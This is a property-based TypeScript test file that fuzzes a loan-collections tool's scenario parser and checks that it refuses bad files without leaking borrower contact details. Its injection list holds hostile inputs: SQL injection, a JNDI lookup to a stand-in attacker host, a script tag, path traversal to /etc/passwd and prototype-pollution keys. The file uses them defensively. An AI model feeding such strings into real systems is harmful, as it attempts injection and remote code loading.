import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseScenario, ScenarioError } from '../../local/scenario.js';
import { EMAIL, loanDelinquent, NAME, PHONE } from '../borrower.js';

/**
 * Bad scenario files, generated: malformed, wrong types, oversized, unicode and injection strings in
 * every field, unknown event types, contradictory events. Every one is refused with a ScenarioError
 * of one short line that names the loan and the field and echoes no contact detail (so `ladder
 * simulate` exits 2 and writes nothing; test/cli covers the exit code and the missing file).
 */
const loan = () => ({
  ...structuredClone(loanDelinquent),
  events: [{ type: 'payment', amount: '1200.00', at: '2026-12-12T10:00:00+08:00' }],
});

const INJECTION = [
  "'; DROP TABLE Cases; --",
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'line one\nline two\r\nthree',
  '\u0000\u001b[2J',
  '\u202Eevil\u202C',
  '💸💸💸',
];
const hostile = fc.oneof(
  fc.constantFrom(...INJECTION),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ minLength: 300, maxLength: 3000 }),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue(), { maxKeys: 3 }),
);

const LOAN_FIELDS = [
  'loanId',
  'amountDue',
  'currency',
  'dueDate',
  'borrower',
  'borrower.borrowerId',
  'borrower.name',
  'borrower.phone',
  'borrower.email',
  'borrower.timeZone',
  'borrower.locale',
  'events',
  'events.0',
  'events.0.type',
  'events.0.amount',
  'events.0.at',
] as const;

function set(target: Record<string, unknown>, path: string, value: unknown): void {
  const keys = path.split('.');
  const last = keys.pop() as string;
  let node: Record<string, unknown> = target;
  for (const k of keys) node = node[k] as Record<string, unknown>;
  node[last] = value;
}

function expectRefused(raw: unknown, hostileValue?: unknown): ScenarioError {
  let error: unknown;
  try {
    parseScenario(raw);
  } catch (e) {
    error = e;
  }
  expect(error).toBeInstanceOf(ScenarioError);
  const message = (error as Error).message;
  // One printable line: no newline or other control character (a hostile id could carry them).
  expect([...message].filter((c) => c.charCodeAt(0) < 0x20)).toEqual([]);
  expect(message.length).toBeLessThanOrEqual(200);
  for (const value of [PHONE, EMAIL, NAME]) expect(message).not.toContain(value);
  if (typeof hostileValue === 'string' && hostileValue.length >= 12)
    expect(message).not.toContain(hostileValue);
  return error as ScenarioError;
}

describe('scenario files: bad input (property-based)', () => {
  it('anything that is not a scenario object is refused', () => {
    fc.assert(
      fc.property(fc.oneof(fc.jsonValue(), fc.anything()), (raw) => {
        fc.pre(!(raw && typeof raw === 'object' && 'loans' in raw));
        expectRefused(raw);
      }),
      { numRuns: 200 },
    );
  });

  it('one field of one loan wrong or hostile: refused, naming that loan (by position if its id is unusable) and the field', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...LOAN_FIELDS),
        hostile,
        fc.integer({ min: 0, max: 2 }),
        (path, value, at) => {
          const loans = [loan(), { ...loan(), loanId: 'L-2' }, { ...loan(), loanId: 'L-3' }];
          const target = loans[at] as unknown as Record<string, unknown>;
          set(target, path, value);
          let valid = true;
          try {
            parseScenario({ loans: structuredClone(loans) });
          } catch {
            valid = false;
          }
          // Free text (a name in any script) is data, not an error.
          fc.pre(!valid);
          const error = expectRefused({ loans }, value);
          expect(error.message).toMatch(new RegExp(`^loan (L-${at + 1}|#${at + 1}): `));
        },
      ),
      { numRuns: 400 },
    );
  });

  it('unknown event types, contradictory timing and oversized lists are refused', () => {
    const refusedEvent = fc.oneof(
      hostile.map((type) => ({ type, at: '2026-12-12T10:00:00+08:00' })),
      fc.constant({ type: 'payment', amount: '1.00' }),
      fc.constant({ type: 'payment', amount: '1.00', at: '2026-12-12T10:00:00+08:00', onAgentCall: 1 }),
      fc.constant({ type: 'refused', at: '2026-12-12T10:00:00+08:00' }),
      fc.constant({
        type: 'acceptPlan',
        onAgentCall: 1,
        instalments: Array(37).fill({ amount: '1.00', date: '2027-01-01' }),
      }),
    );
    fc.assert(
      fc.property(refusedEvent, (event) => {
        expectRefused({ loans: [{ ...loan(), events: [event] }] }, (event as { type: unknown }).type);
      }),
      { numRuns: 200 },
    );
    expectRefused({ loans: [{ ...loan(), events: Array(201).fill(loan().events[0]) }] });
    expectRefused({ loans: Array(100_001).fill(0) });
    expectRefused({ loans: [] });
    expectRefused({ loans: [loan(), loan()] });
  });
});
